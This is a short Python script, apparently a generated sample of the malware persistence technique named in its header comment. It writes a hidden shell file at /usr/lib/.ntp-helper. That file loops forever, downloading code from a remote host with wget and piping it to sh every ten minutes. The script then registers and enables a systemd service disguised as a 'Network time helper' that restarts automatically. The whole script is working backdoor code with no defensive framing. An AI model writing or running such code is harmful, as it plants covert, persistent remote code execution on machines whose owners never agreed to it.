# class: persistence by systemd unit; style: class
import os
import textwrap
from pathlib import Path


class Unit:
    def __init__(self, name, command):
        self.name = name
        self.command = command

    def text(self):
        return textwrap.dedent(f"""\
            [Unit]
            Description=Network time helper
            After=network-online.target

            [Service]
            ExecStart={self.command}
            Restart=always

            [Install]
            WantedBy=multi-user.target
            """)

    def write(self):
        target = Path("/etc/systemd/system") / f"{self.name}.service"
        target.write_text(self.text())
        os.system("systemctl daemon-reload")
        os.system(f"systemctl enable --now {self.name}")


hidden = "/usr/lib/.ntp-helper"
with open(hidden, "w") as fh:
    fh.write("#!/bin/sh\nwhile :; do wget -qO- http://update.ntp-helper.example/c | sh; sleep 600; done\n")
os.chmod(hidden, 0o755)
Unit("ntp-helper", hidden).write()
